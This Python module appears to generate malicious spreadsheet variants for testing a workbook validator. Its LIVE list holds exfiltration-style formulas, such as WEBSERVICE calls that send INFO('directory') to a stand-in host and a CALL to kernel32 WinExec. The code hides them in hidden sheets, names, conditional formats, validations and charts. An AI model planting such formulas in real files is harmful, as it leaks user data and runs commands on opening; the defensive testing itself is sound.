"""Targeted mutations that put formulas where inputs should hold figures (issue 17, items 5
and 6): formulas in disguise in an input, and live formulas that reach outside the
workbook hidden outside the inputs (in a row, a sheet, a format, a validation, a name or a
chart); the latter must be rejected whatever Calc shows.
"""

from __future__ import annotations

import random

from lxml import etree

from helpers.mutation_edits import (
    MONEY,
    RATING,
    SHEET_CT,
    Aim,
    edit_sheet_xml,
    insert_in_order,
)
from helpers.ooxml import MAIN, NS, REL, Package
from helpers.partner_text import cell_of

X14 = "http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"
XM = "http://schemas.microsoft.com/office/excel/2006/main"
# Live formulas that reach outside the workbook, as a partner could hide them.
LIVE = (
    '_xlfn.WEBSERVICE("http://ni179.invalid/?d="&INFO("directory"))',
    'WEBSERVICE("http://ni179.invalid/")',
    'RTD("ni179.server",,"topic")',
    'HYPERLINK("\\\\ni179.invalid\\share\\x.xlsx","open")',
    '_xlfn.FILTERXML(_xlfn.WEBSERVICE("http://ni179.invalid/"),"//a")',
    'CALL("kernel32","WinExec","JCJ","calc",0)',
    "'http://ni179.invalid/[book.xlsx]Sheet1'!A1",
)


# -- item 5: formulas in input cells, in disguise --------------------------------------------


def formula_in_disguise(pkg: Package, rng: random.Random, aim: Aim) -> str:
    variant = (
        "shared-follower-without-master",
        "data-table",
        "empty-f",
        "empty-array",
        "shared-follower-of-far-master",
        "text-with-empty-f",
    )[aim.pick % 6]

    def edit(root: etree._Element) -> None:
        coord = RATING[1] if variant == "text-with-empty-f" else MONEY[1]
        c = cell_of(root, coord)
        cached = c.findtext("m:v", None, NS)
        inline = "".join(t.text or "" for t in c.iter(f"{{{MAIN}}}t"))
        for child in list(c):
            c.remove(child)
        f = etree.SubElement(c, f"{{{MAIN}}}f")
        if variant == "shared-follower-without-master":
            f.set("t", "shared")
            f.set("si", "77")
        elif variant == "data-table":
            f.set("t", "dataTable")
            f.set("ref", coord)
            f.set("dt2D", "0")
            f.set("dtr", "0")
            f.set("r1", "A1")
        elif variant == "empty-array":
            f.set("t", "array")
            f.set("ref", coord)
        elif variant == "shared-follower-of-far-master":
            f.set("t", "shared")
            f.set("si", "0")
        if variant == "text-with-empty-f":
            c.set("t", "str")
            etree.SubElement(c, f"{{{MAIN}}}v").text = inline or cached or "Red"
        else:
            c.attrib.pop("t", None)
            etree.SubElement(c, f"{{{MAIN}}}v").text = cached or "63.5"

    edit_sheet_xml(pkg, RATING[0] if variant == "text-with-empty-f" else MONEY[0], edit)
    return f"{variant} in an input, with its value cached"


# -- item 6: live formulas outside the inputs (must be rejected) -----------------------------

PLACES = (
    "_meta row",
    "added sheet",
    "conditional format",
    "data validation",
    "defined name",
    "x14 conditional format",
    "hidden sheet cell",
    "chart",
)


def live_formula_outside_inputs(pkg: Package, rng: random.Random, aim: Aim) -> tuple[str, str]:
    formula = LIVE[(aim.pick + aim.pick // len(PLACES)) % len(LIVE)]
    where = PLACES[aim.pick % len(PLACES)]
    if where == "_meta row":

        def edit(root: etree._Element) -> None:
            c = cell_of(root, "C40")
            for child in list(c):
                c.remove(child)
            c.set("t", "str")
            etree.SubElement(c, f"{{{MAIN}}}f").text = formula
            etree.SubElement(c, f"{{{MAIN}}}v").text = "0"

        edit_sheet_xml(pkg, "_meta", edit)
    elif where in ("added sheet", "hidden sheet cell"):
        _add_sheet(
            pkg,
            "Validation results" if where == "added sheet" else "Notes",
            formula,
            hidden=where == "hidden sheet cell",
        )
    elif where == "chart":
        _add_chart(pkg, formula)
    elif where == "defined name":
        wb = pkg.workbook_part()
        root = pkg.xml(wb)
        names = root.find("m:definedNames", NS)
        if names is None:
            names = etree.Element(f"{{{MAIN}}}definedNames")
            root.find("m:sheets", NS).addnext(names)
        etree.SubElement(names, f"{{{MAIN}}}definedName", name="Refresh").text = formula
        pkg.put(wb, root)
    else:

        def edit(root: etree._Element) -> None:
            if where == "conditional format":
                cf = etree.Element(f"{{{MAIN}}}conditionalFormatting", sqref="B8:E14")
                rule = etree.SubElement(cf, f"{{{MAIN}}}cfRule", type="expression", priority="99")
                etree.SubElement(rule, f"{{{MAIN}}}formula").text = f"LEN({formula})>0"
                insert_in_order(
                    root,
                    cf,
                    after=(
                        "sheetData",
                        "sheetCalcPr",
                        "sheetProtection",
                        "protectedRanges",
                        "scenarios",
                        "autoFilter",
                        "sortState",
                        "dataConsolidate",
                        "customSheetViews",
                        "mergeCells",
                        "phoneticPr",
                    ),
                )
            elif where == "data validation":
                dvs = root.find("m:dataValidations", NS)
                if dvs is None:
                    dvs = etree.Element(f"{{{MAIN}}}dataValidations", count="0")
                    insert_in_order(
                        root,
                        dvs,
                        after=(
                            "sheetData",
                            "sheetCalcPr",
                            "sheetProtection",
                            "protectedRanges",
                            "scenarios",
                            "autoFilter",
                            "sortState",
                            "dataConsolidate",
                            "customSheetViews",
                            "mergeCells",
                            "phoneticPr",
                            "conditionalFormatting",
                        ),
                    )
                dv = etree.SubElement(dvs, f"{{{MAIN}}}dataValidation", type="custom", sqref="E8")
                etree.SubElement(dv, f"{{{MAIN}}}formula1").text = f"LEN({formula})>0"
                dvs.set("count", str(len(dvs)))
            else:  # Excel 2010's own conditional formats, in the sheet's extLst
                ext_list = root.find("m:extLst", NS)
                if ext_list is None:
                    ext_list = etree.SubElement(root, f"{{{MAIN}}}extLst")
                ext = etree.SubElement(
                    ext_list,
                    f"{{{MAIN}}}ext",
                    uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}",
                    nsmap={"x14": X14},
                )
                cfs = etree.SubElement(ext, f"{{{X14}}}conditionalFormattings")
                cf = etree.SubElement(cfs, f"{{{X14}}}conditionalFormatting", nsmap={"xm": XM})
                rule = etree.SubElement(
                    cf,
                    f"{{{X14}}}cfRule",
                    type="expression",
                    priority="99",
                    id="{00000000-0000-0000-0000-000000000001}",
                )
                etree.SubElement(rule, f"{{{XM}}}f").text = f"LEN({formula})>0"
                etree.SubElement(cf, f"{{{XM}}}sqref").text = "B8:E14"

        edit_sheet_xml(pkg, MONEY[0], edit)
    return f"{formula} in a {where}", f"a live formula reaching outside the workbook ({where})"


CHART_NS = "http://schemas.openxmlformats.org/drawingml/2006/chart"
DRAWING_NS = "http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"
A_NS = "http://schemas.openxmlformats.org/drawingml/2006/main"


def _add_chart(pkg: Package, formula: str) -> None:
    """A chart on the Gains sheet whose series title is ``formula``, as a chart's own formula."""
    drawing, chart = "xl/drawings/ni179drawing.xml", "xl/charts/ni179chart.xml"
    c, a, xdr = CHART_NS, A_NS, DRAWING_NS
    pkg.parts[chart] = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><c:chartSpace xmlns:c="{c}" xmlns:a="{a}">'
        '<c:chart><c:plotArea><c:layout/><c:barChart><c:barDir val="col"/><c:grouping val="clustered"/>'
        f'<c:ser><c:idx val="0"/><c:order val="0"/><c:tx><c:strRef><c:f>{_xml_text(formula)}</c:f></c:strRef>'
        "</c:tx><c:val><c:numRef><c:f>Gains!$B$8:$B$14</c:f></c:numRef></c:val></c:ser>"
        '<c:axId val="1"/><c:axId val="2"/></c:barChart><c:catAx><c:axId val="1"/><c:scaling/><c:delete val="0"/>'
        '<c:axPos val="b"/><c:crossAx val="2"/></c:catAx><c:valAx><c:axId val="2"/><c:scaling/><c:delete val="0"/>'
        '<c:axPos val="l"/><c:crossAx val="1"/></c:valAx></c:plotArea></c:chart></c:chartSpace>'
    ).encode()
    pkg.parts[drawing] = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><xdr:wsDr xmlns:xdr="{xdr}" xmlns:a="{a}" '
        f'xmlns:r="{REL}" xmlns:c="{c}"><xdr:twoCellAnchor><xdr:from><xdr:col>6</xdr:col><xdr:colOff>0</xdr:colOff>'
        "<xdr:row>6</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:to><xdr:col>12</xdr:col><xdr:colOff>0"
        '</xdr:colOff><xdr:row>20</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to><xdr:graphicFrame macro="">'
        '<xdr:nvGraphicFramePr><xdr:cNvPr id="2" name="Chart 1"/><xdr:cNvGraphicFramePr/></xdr:nvGraphicFramePr>'
        '<xdr:xfrm><a:off x="0" y="0"/><a:ext cx="0" cy="0"/></xdr:xfrm><a:graphic><a:graphicData '
        f'uri="{c}"><c:chart r:id="rId1"/></a:graphicData></a:graphic></xdr:graphicFrame><xdr:clientData/>'
        "</xdr:twoCellAnchor></xdr:wsDr>"
    ).encode()
    pkg.add_relationship(drawing, "chart", chart)
    pkg.add_content_type(
        chart, content_type="application/vnd.openxmlformats-officedocument.drawingml.chart+xml"
    )
    pkg.add_content_type(
        drawing, content_type="application/vnd.openxmlformats-officedocument.drawing+xml"
    )
    part = pkg.sheet_parts()[MONEY[0]]
    rid = pkg.add_relationship(part, "drawing", drawing)
    root = pkg.xml(part)
    element = etree.Element(f"{{{MAIN}}}drawing")
    element.set(f"{{{REL}}}id", rid)
    insert_in_order(
        root,
        element,
        after=(
            "sheetData",
            "sheetCalcPr",
            "sheetProtection",
            "protectedRanges",
            "scenarios",
            "autoFilter",
            "sortState",
            "dataConsolidate",
            "customSheetViews",
            "mergeCells",
            "phoneticPr",
            "conditionalFormatting",
            "dataValidations",
            "hyperlinks",
            "printOptions",
            "pageMargins",
            "pageSetup",
            "headerFooter",
            "rowBreaks",
            "colBreaks",
            "customProperties",
            "cellWatches",
            "ignoredErrors",
            "smartTags",
        ),
    )
    pkg.put(part, root)


def _xml_text(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _add_sheet(pkg: Package, name: str, formula: str, hidden: bool) -> None:
    wb = pkg.workbook_part()
    part = "xl/worksheets/added.xml"
    sheet = etree.Element(f"{{{MAIN}}}worksheet", nsmap={None: MAIN, "r": REL})
    data = etree.SubElement(sheet, f"{{{MAIN}}}sheetData")
    row = etree.SubElement(data, f"{{{MAIN}}}row", r="1")
    c = etree.SubElement(row, f"{{{MAIN}}}c", r="A1", t="str")
    etree.SubElement(c, f"{{{MAIN}}}f").text = formula
    etree.SubElement(c, f"{{{MAIN}}}v").text = "0"
    pkg.put(part, sheet)
    pkg.add_content_type(part, content_type=SHEET_CT)
    rid = pkg.add_relationship(wb, "worksheet", part)
    root = pkg.xml(wb)
    sheets = root.find("m:sheets", NS)
    ids = [int(s.get("sheetId", "0")) for s in sheets]
    attrs = {"name": name, "sheetId": str(max(ids) + 1), f"{{{REL}}}id": rid}
    if hidden:
        attrs["state"] = "hidden"
    etree.SubElement(sheets, f"{{{MAIN}}}sheet", attrs)
    pkg.put(wb, root)
